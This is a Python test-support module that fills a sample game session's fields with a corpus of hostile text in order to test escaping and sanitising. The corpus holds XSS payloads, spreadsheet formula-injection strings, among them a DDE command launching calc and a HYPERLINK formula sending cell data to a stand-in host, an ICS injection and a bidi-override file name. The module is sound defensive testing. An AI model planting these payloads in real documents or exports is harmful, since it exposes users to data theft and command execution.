"""A corpus of hostile and awkward text, and the sample session with it typed everywhere."""

from __future__ import annotations

import copy

from tests.support.sample import sample_data, sample_session_state

LONG_WORD = "Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichenhersteller" * 3
HOSTILE = {
    "script": '<script>alert("x")</script>',
    "img": "<img src=x onerror=alert(1)>Foto",
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1;"Klik")',
    "plus": "+SUM(1;2)",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A2)",
    "tab": "\t=1+1",
    "control": "Bel\x07\x00 \x1b[31mrood\x1b[0m\x0b\x0c eind",
    "bidi": "factuur\u202egnp.exe",
    "long": LONG_WORD,
    "emoji": "Moestuin 🌱🥕 met kas 👩‍🌾🏡",
    "hebrew": "גינת ירק משותפת ליד הבית",
    "arabic": "حديقة خضروات مشتركة",
    "markdown": "# kop **vet** [link](javascript:alert(1)) | pipe | `code` ~~weg~~",
    "ics": "regel een\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:nep",
    "csv": 'a;b,"c"\nnieuwe regel',
    "template": "{{ 7*7 }} {% raw %}",
    "entity": "&lt;b&gt; &amp; 5 > 3 < 4",
    "json": "</script><script>alert(1)</script>",
}

#: What a reader must see of each text: control and bidi-override characters are gone.
VISIBLE = {
    **HOSTILE,
    "tab": "=1+1",
    "control": "Bel [31mrood[0m eind",
    "bidi": "factuurgnp.exe",
}


def hostile_data() -> dict:
    """The sample with hostile text in every kind of field players and facilitators type."""
    data = copy.deepcopy(sample_data())
    texts = list(HOSTILE.values())
    data["session"]["title"] = HOSTILE["script"] + " " + HOSTILE["emoji"]
    data["session"]["question"] = HOSTILE["hyperlink"] + " " + HOSTILE["hebrew"]
    data["session"]["place"] = HOSTILE["control"]
    position = 0
    for entries in data["rounds"].values():
        for entry in entries:
            if "text" in entry:
                entry["text"] = texts[position % len(texts)]
                position += 1
    for step, key in zip(data["rounds"]["actiepad"], ("hyperlink", "plus", "markdown", "ics", "long")):
        step["what"] = HOSTILE[key]
        step["needs"] = HOSTILE["csv"]
        step["partners"] = step["partners"] + [HOSTILE["at"]]
    data["rounds"]["actiepad"][0]["owner"] = HOSTILE["minus"]
    data["rounds"]["samenspel"][0]["word"] = HOSTILE["emoji"][-5:]
    data["rounds"]["samenspel"][1]["word"] = HOSTILE["arabic"]
    return data


def hostile_session_state():
    return sample_session_state(hostile_data())
